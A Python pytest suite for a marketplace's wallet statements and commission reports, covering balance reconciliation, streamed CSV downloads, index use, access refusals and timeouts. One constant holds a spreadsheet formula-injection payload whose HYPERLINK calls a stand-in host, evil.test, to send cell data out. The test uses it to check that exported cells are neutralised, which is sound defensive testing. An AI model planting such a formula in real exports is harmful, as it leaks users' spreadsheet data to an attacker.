"""Statements and commissions: sums that agree with the balances, as JSON and as streamed CSV."""

import asyncio
import csv
import io
import tracemalloc
from datetime import UTC, datetime, timedelta

import aiohttp
import pytest

from domain import commissions, ledger, statements
from domain.ledger import Posting, Transaction
from domain.operation import Actor, Role
from domain.sides import Side, platform_before
from domain.store import UnitOfWork, new_id
from handlers.statements import cell, decimal
from server import downloads
from tests.parties import Refused
from tests.work import PATIENCE, Work

NEW_YEAR = datetime(2026, 1, 1, tzinfo=UTC)
ROWS = 20_000
EVIL = '=HYPERLINK("http://evil.test?"&A1,"Fence"), two "coats"\nand more'


@pytest.fixture
def work(market, server):
    return Work(market, server)


def lately(**fields):
    """The last day and the next, as fields of a statement."""
    now = datetime.now(UTC)
    span = {"start": now - timedelta(days=1), "end": now + timedelta(days=1)}
    return {name: at.isoformat() for name, at in span.items()} | fields


async def statement(party, **fields):
    return await party.call("/wallet", "statement", lately(**fields))


def told(statement):
    """kind -> (count, in, out, moved)"""
    return {
        line["kind"]: (line["count"], line["in_amount"], line["out_amount"], line["moved_amount"])
        for line in statement["lines"]
    }


async def download(party, path, **params):
    """Status, headers and the rows of a CSV file as dicts."""
    headers = {"Authorization": f"Bearer {party.token}"} if party.token else {}
    url = f"{party.url}/api/{path}"
    async with party.web.get(url, params=params, headers=headers) as response:
        if response.content_type != "text/csv":
            return response.status, response.headers, await response.json(content_type=None)
        text = io.StringIO(await response.text(), newline="")
        return response.status, response.headers, list(csv.DictReader(text))


def transaction(number, user="usr_1", **fields):
    """A row of the journal, one a minute: earned, settled, withdrawn, paid out, and so on."""
    kinds = ("completed", "transfer_settled", "withdrawn", "paid_out")
    way = ("escrow:ofr_1", ledger.pending(user), ledger.available(user), ledger.in_transit(user),
           ledger.BANK)  # fmt: skip
    step = number % 4
    given = {
        "kind": kinds[step], "currency": "USD", "users": (user,), "fact": f"{user}:{number}",
        "postings": (Posting(way[step], way[step + 1], 100),), "accounts": way[step : step + 2],
        "created_at": NEW_YEAR + timedelta(minutes=number), **fields,
    }  # fmt: skip
    return Transaction(id=new_id(Transaction.PREFIX), updated_at=given["created_at"], **given)


async def book_rows(store, count, **fields):
    for start in range(0, count, 2000):
        numbers = range(start, min(start + 2000, count))
        await store.single().add_all([transaction(number, **fields) for number in numbers])


# -- the sums ------------------------------------------------------------------------------------


async def test_a_contractors_statement_leads_from_balance_to_balance(work):
    """Guard: `position` and `deltas` of `sides.Side`; a part that is left out, or what only moves
    counted as coming in, and the closing balance is not the wallet's."""
    await work.done()
    before = datetime.now(UTC).isoformat()
    await work.withdraw(20_000)
    whole = await statement(work.contractor)
    assert told(whole) == {
        "completed": (1, 70_000, 0, 0), "transfer_settled": (1, 0, 0, 70_000),
        "withdrawn": (1, 0, 0, 20_000), "paid_out": (1, 0, 20_000, 0),
    }  # fmt: skip
    assert (whole["opening"]["amount"], whole["net_amount"]) == (0, 50_000)
    assert whole["closing"] == {"amount": 50_000, "parts": {
        "available": 50_000, "pending": 0, "held": 0, "in_transit": 0, "debt": 0,
    }}  # fmt: skip
    wallet = await work.contractor.call("/wallet", "balance")
    assert {part: wallet[part] for part in whole["closing"]["parts"]} == whole["closing"]["parts"]

    first = await statement(work.contractor, end=before)
    second = await statement(work.contractor, start=before)
    assert first["closing"] == second["opening"]
    assert (second["opening"]["amount"], second["net_amount"]) == (70_000, -20_000)
    assert told(second).keys() == {"withdrawn", "paid_out"}
    assert told(await statement(work.contractor, currency="EUR")) == {}


async def test_debt_and_held_money_are_parts_of_it(work):
    """Guard: `held` and `debt` in `Side.of`."""
    await work.done()
    await work.withdraw(50_000)
    chargeback = await work.charge_back()
    closing = (await statement(work.contractor))["closing"]
    assert (closing["amount"], closing["parts"]["held"]) == (20_000, 20_000)
    await work.decide(chargeback, won=False)
    await work.market.settled(PATIENCE)
    found = await statement(work.contractor)
    assert found["closing"]["parts"]["debt"] == found["closing"]["amount"] == -50_000
    assert told(found)["chargeback_lost"] == (1, 0, 70_000, 0)


async def test_a_customers_statement_is_what_was_paid_and_given_back(work):
    """Guard: the customer's `Side`: STRIPE and chargebacks; without `came or left or moved` the
    platform's fee would be a line of nothing."""
    await work.begin()
    await work.refund(30_000)
    await work.market.settled(PATIENCE)
    paid = await statement(work.customer)
    assert told(paid) == {"captured": (1, 0, 100_000, 0), "refunded": (1, 30_000, 0, 0)}
    assert paid["closing"]["amount"] == paid["net_amount"] == -70_000
    _, _, rows = await download(work.customer, "wallet/statement.csv", **lately())
    assert [(row["kind"], row["amount"], row["balance"]) for row in rows] == [
        ("captured", "-1000.00", "-1000.00"), ("refunded", "300.00", "-700.00"),
    ]  # fmt: skip


async def test_a_lost_chargeback_is_money_that_the_customer_got_back(work):
    """Guard: `chargebacks` in the customer's `Side`; without it the bank's refund is nowhere."""
    await work.begin()
    await work.decide(await work.charge_back(), won=False)
    await work.market.settled(PATIENCE)
    found = await statement(work.customer)
    assert told(found)["chargeback_lost"] == (1, 100_000, 0, 0)
    assert found["closing"]["amount"] == 0


async def test_commissions_agree_with_the_platforms_balance(work):
    """Guard: COLUMNS and `_columns`; a kind that is counted twice or not at all, and the columns do
    not make the net amount, or that not the balance."""
    await work.sandbox.settings(fee_bps=290)
    await work.done()
    await work.refund(20_000)
    await work.market.settled(PATIENCE)
    other = await Work(work.market, work.server).done()
    await other.decide(await other.charge_back(), won=False)
    platform, _ = await work.books()
    admin = await work.market.admin()

    report = await admin.call("/admin", "commissions", lately())
    sums = {
        name: sum(line[name] for line in report["lines"] if line["currency"] == "USD")
        for name in report["lines"][0]
        if name.endswith("_amount")
    }
    assert sums == {
        "platform_fee_amount": 20_000, "service_fee_amount": 40_000, "refunded_amount": -6_000,
        "stripe_fee_amount": -2 * 2_900, "chargeback_amount": -30_000,
        "chargeback_fee_amount": -1_500, "other_amount": 0, "net_amount": platform,
    }  # fmt: skip
    total = next(total for total in report["totals"] if total["currency"] == "USD")
    assert total == {
        "currency": "USD", "opening_amount": 0, "net_amount": platform, "closing_amount": platform
    }  # fmt: skip
    assert (await statement(admin))["closing"]["parts"] == {"platform": platform}
    _, _, rows = await download(admin, "admin/commissions.csv", **lately(bucket="month"))
    assert sum(int(row["net_minor"]) for row in rows) == platform
    assert {row["period"] for row in rows} == {datetime.now(UTC).strftime("%Y-%m")}


async def test_commissions_are_told_by_day_month_and_currency(market, server):
    """Guard: PERIODS, and the key of `$group`."""
    uow, number = server.store.single(), 0
    for day in (0, 0, 1, 40):
        for currency, amount in (("USD", 100), ("JPY", 7)):
            number += 1
            await uow.add(transaction(
                0, kind="accepted", currency=currency, fact=f"f{number}", users=(),
                accounts=("escrow:ofr_1", "platform"), created_at=NEW_YEAR + timedelta(days=day),
                postings=(Posting("escrow:ofr_1", "platform", amount),),
            ))  # fmt: skip
    admin = await market.admin()
    year = {"start": "2026-01-01T00:00:00Z", "end": "2027-01-01T00:00:00Z"}

    async def lines(**fields):
        report = await admin.call("/admin", "commissions", {**year, **fields})
        return [(x["period"], x["currency"], x["platform_fee_amount"]) for x in report["lines"]]

    assert await lines(bucket="month") == [
        ("2026-01", "JPY", 21), ("2026-01", "USD", 300), ("2026-02", "JPY", 7),
        ("2026-02", "USD", 100),
    ]  # fmt: skip
    assert await lines(currency="USD") == [
        ("2026-01-01", "USD", 200), ("2026-01-02", "USD", 100), ("2026-02-10", "USD", 100)
    ]  # fmt: skip
    status, _, rows = await download(admin, "admin/commissions.csv", **year, currency="JPY")
    assert (status, rows[0]["platform_fees"], rows[0]["net_minor"]) == (200, "14", "14")


@pytest.mark.parametrize(
    ("wrong", "field"),
    [
        ({"start": "2026-01-01T00:00:00"}, "start"),
        ({"end": "2020-01-01T00:00:00Z"}, "end"),
        ({"start": "2020-01-01T00:00:00Z"}, "end"),
        ({"start": "1999-12-31T00:00:00Z"}, "start"),
        ({"start": "0001-01-01T00:00:00+14:00"}, "start"),
        ({"end": "9999-12-31T23:59:59-12:00"}, "end"),
        ({"currency": "dollars"}, "currency"),
    ],
)
async def test_spans_that_are_refused(market, wrong, field):
    """Guard: `check_span`, and `tz=True` of Moment; years that the database cannot tell would be
    crashes."""
    party = await market.contractor()
    with pytest.raises(Refused) as refused:
        await statement(party, **wrong)
    assert (refused.value.code, refused.value.details["field"]) == ("invalid", field)


# -- what it costs -------------------------------------------------------------------------------


async def plans(server, monkeypatch, call):
    """How the database reads the journal for a call, and how many rows it looks at."""
    asked = []
    real = UnitOfWork.aggregate

    async def aggregate(uow, kind, pipeline):
        asked.append({"aggregate": kind.COLLECTION, "pipeline": pipeline, "cursor": {}})
        return await real(uow, kind, pipeline)

    with monkeypatch.context() as patched:
        patched.setattr(UnitOfWork, "aggregate", aggregate)
        await call
    asked = [command for command in asked if command["aggregate"] == Transaction.COLLECTION]
    assert asked
    found = []
    for command in asked:
        explained = await server.store.database.command(
            {"explain": command, "verbosity": "executionStats"}
        )
        plan = explained["stages"][0]["$cursor"]
        stats = plan["executionStats"]
        found.append((str(plan["queryPlanner"]["winningPlan"]), stats["totalDocsExamined"]))
    return found


async def test_statements_read_their_own_part_of_the_journal(server, monkeypatch):
    """Guard: the index of Transaction on (users, created_at) and the one on (accounts,
    created_at); fails when one is dropped or its fields are put in another order."""
    for user in ("usr_1", "usr_2", "usr_3"):
        await book_rows(server.store, 400, user=user)
    platform = {"users": (), "accounts": ("escrow:ofr_1", "platform")}
    rows = [transaction(number, fact=f"fee:{number}", **platform) for number in range(400)]
    await server.store.single().add_all(rows)
    hour = {"start": NEW_YEAR + timedelta(hours=1), "end": NEW_YEAR + timedelta(hours=2)}
    of_users, of_platform = "users_1_created_at_1__id_1", "accounts_1_created_at_1"
    for role, run, command, index in (
        (Role.CONTRACTOR, statements.statement, statements.Statement(**hour), of_users),
        (Role.CUSTOMER, statements.statement, statements.Statement(**hour), of_users),
        (Role.ADMIN, statements.statement, statements.Statement(**hour), of_platform),
        (Role.ADMIN, commissions.commissions,
         commissions.Commissions(**hour, currency="USD"), of_platform),
    ):  # fmt: skip
        uow, actor = server.store.single(), Actor("usr_2", role, "ses_1")
        for plan, examined in await plans(server, monkeypatch, run(command, actor, uow)):
            assert f"'indexName': '{index}'" in plan
            assert examined == 60


async def test_the_platforms_balance_is_read_from_its_snapshot(server, monkeypatch):
    """Guard: both directions in `platform_before`."""
    postings = (Posting("escrow:ofr_1", "platform", 100),)
    platform = {"users": (), "accounts": ("escrow:ofr_1", "platform"), "postings": postings}
    rows = [transaction(number, fact=f"fee:{number}", **platform) for number in range(100)]
    store = server.store
    await store.single().add_all(rows)
    times = [NEW_YEAR + timedelta(minutes=minute) for minute in (0, 30, 50, 51, 99, 200)]
    monkeypatch.setattr(ledger, "SETTLED_AFTER", timedelta(0))

    async def balances():
        uow = store.single()
        return [await platform_before(uow, "USD", at) for at in times]

    plain = await balances()
    assert plain == [0, 3_000, 5_000, 5_100, 9_900, 10_000]
    uow = store.single()
    uow.now = NEW_YEAR + timedelta(minutes=50)
    await ledger.take_snapshot(uow, ledger.PLATFORM)
    assert await uow.count(ledger.Snapshot, {"_id": "snapshot:platform|USD", "balance": 5_100}) == 1
    assert await balances() == plain


async def test_a_long_statement_is_streamed_in_constant_memory(market, server):
    """Guard: `uow.each`, and TITLES_AT_ONCE in `statements.entries`; a list of all rows takes tens
    of megabytes. Without `response.write` of each piece the length would be known before."""
    party = await market.contractor()
    await book_rows(server.store, ROWS, user=party.id)
    span = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
    headers = {"Authorization": f"Bearer {party.token}"}
    tracemalloc.start()
    try:
        url = f"{party.url}/api/wallet/statement.csv"
        async with party.web.get(url, params=span, headers=headers) as response:
            assert response.headers["Transfer-Encoding"] == "chunked"
            began, lines, last = tracemalloc.get_traced_memory()[0], 0, b""
            async for piece in response.content.iter_any():
                lines += piece.count(b"\r\n")
                last = piece
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert lines == ROWS + 1
    assert peak - began < 8_000_000
    whole = await party.call("/wallet", "statement", span)
    assert last.rstrip().endswith(str(whole["closing"]["amount"]).encode())
    assert sum(line["count"] for line in whole["lines"]) == ROWS


# -- the files -----------------------------------------------------------------------------------


async def test_a_statement_as_a_file(work):
    """Guard: the headers in `downloads.send`, `decimal`, and the running balance."""
    await work.done()
    await work.withdraw(20_000)
    status, headers, rows = await download(work.contractor, "wallet/statement.csv", **lately())
    assert (status, headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert headers["Cache-Control"] == "no-store"
    assert headers["Content-Disposition"].startswith('attachment; filename="statement-')
    shown = [[row[name] for name in ("kind", "amount", "moved", "balance_minor")] for row in rows]
    assert shown == [
        ["completed", "700.00", "0.00", "70000"], ["transfer_settled", "0.00", "700.00", "70000"],
        ["withdrawn", "0.00", "200.00", "70000"], ["paid_out", "-200.00", "0.00", "50000"],
    ]  # fmt: skip
    assert [row["offer_id"] for row in rows] == [work.offer["id"]] * 2 + [""] * 2
    assert [row["job"] for row in rows] == ["Paint the fence"] * 2 + [""] * 2
    assert rows[2]["withdrawal_id"] == rows[3]["withdrawal_id"] != ""
    assert [datetime.fromisoformat(row["at"]) for row in rows] == sorted(
        datetime.fromisoformat(row["at"]) for row in rows
    )


async def test_what_people_wrote_is_no_formula(market, server):
    """Guard: FORMULA in `cell`, and the csv module's quoting."""
    customer, contractor = await market.customer(), await market.contractor()
    deal = Work(market, server)
    deal.job = await market.job(customer, title=EVIL)
    await market.application(contractor, deal.job)
    await market.accept(contractor, await market.offer(customer, contractor, deal.job))
    _, _, rows = await download(customer, "wallet/statement.csv", **lately())
    assert [row["job"] for row in rows] == ["'" + EVIL]
    assert rows[0]["amount"] == "-1000.00"


def test_cells() -> None:
    """Guard: FORMULA; and numbers, which begin with a minus, stay numbers."""
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "  =1", "＝1"):  # noqa: RUF001
        assert cell(text) == f"'{text}"
    for text in ("Fence", "a=1", "1-1", "'=1", ""):
        assert cell(text) == text
    assert (cell(-5), cell(decimal(-5, "USD"))) == ("-5", "-0.05")


@pytest.mark.parametrize(("amount", "currency", "text"), [
    (70_000, "USD", "700.00"), (-123_456, "EUR", "-1234.56"), (0, "USD", "0.00"),
    (500, "JPY", "500"), (0, "JPY", "0"), (1_250, "KWD", "1.250"), (1, "KWD", "0.001"),
])  # fmt: skip
def test_decimals(amount, currency, text):
    """Guard: the exponent in `decimal`; floats would lose cents of large sums."""
    assert cell(decimal(amount, currency)) == text


async def test_files_are_refused_like_commands(market):
    """Guard: `_caller` and `admit` before the first byte: every refusal is a problem."""
    customer, contractor = await market.customer(), await market.contractor()
    span = lately()
    for party, path, params, code, status in (
        (market.stranger(), "wallet/statement.csv", span, "unauthenticated", 401),
        (market.stranger(), "admin/commissions.csv", span, "unauthenticated", 401),
        (customer, "admin/commissions.csv", span, "forbidden", 403),
        (contractor, "admin/commissions.csv", span, "forbidden", 403),
        (customer, "wallet/statement.csv", {}, "invalid", 422),
        (customer, "wallet/statement.csv", {**span, "user_id": contractor.id}, "invalid", 422),
        (customer, "wallet/statement.csv", {**span, "end": span["start"]}, "invalid", 422),
    ):
        found, headers, problem = await download(party, path, **params)
        assert (found, problem["code"]) == (status, code), (path, params)
        assert headers["Content-Type"].startswith("application/problem+json")


async def test_a_file_that_breaks_off_does_not_look_whole(market, server, monkeypatch):
    """Guard: `_cut` in `downloads.send`; an end in good order would say that this is all. And what
    fails before the first piece is a problem: `anext` in `Download.open`."""
    party = await market.contractor()
    await book_rows(server.store, 1_000, user=party.id)
    span = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
    real, broken_at = Side.effect, 700

    def broken(side, transaction):
        if transaction.fact == f"{party.id}:{broken_at}":
            raise RuntimeError("the disk is on fire")
        return real(side, transaction)

    monkeypatch.setattr(Side, "effect", broken)
    with pytest.raises(aiohttp.ClientPayloadError):
        await download(party, "wallet/statement.csv", **span)
    broken_at = 0
    status, _, problem = await download(party, "wallet/statement.csv", **span)
    assert (status, problem["code"]) == (500, "internal")


async def test_who_does_not_read_is_cut_off(market, server, monkeypatch):
    """Guard: `asyncio.timeout` in `downloads._write`; without it a stalled client holds a cursor of
    the database for as long as it likes."""
    monkeypatch.setattr(downloads, "PATIENCE_SECONDS", 0.5)
    # More than the buffers of the system take.
    monkeypatch.setattr("handlers.statements.encode", lambda rows: bytes(2_000_000))
    party = await market.contractor()
    await book_rows(server.store, 2_000, user=party.id)
    host, port = party.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port), limit=1024)
    span = "start=2026-01-01T00:00:00Z&end=2026-02-01T00:00:00Z"
    writer.write(
        f"GET /api/wallet/statement.csv?{span} HTTP/1.1\r\nHost: {host}\r\n"
        f"Authorization: Bearer {party.token}\r\n\r\n".encode()
    )
    assert b"200 OK" in await reader.readline()
    cut = asyncio.Event()
    real = downloads._cut
    monkeypatch.setattr(downloads, "_cut", lambda request: (real(request), cut.set()))
    async with asyncio.timeout(20):
        await cut.wait()
        with pytest.raises(ConnectionError):
            while await reader.read(1 << 20):
                pass
    writer.close()
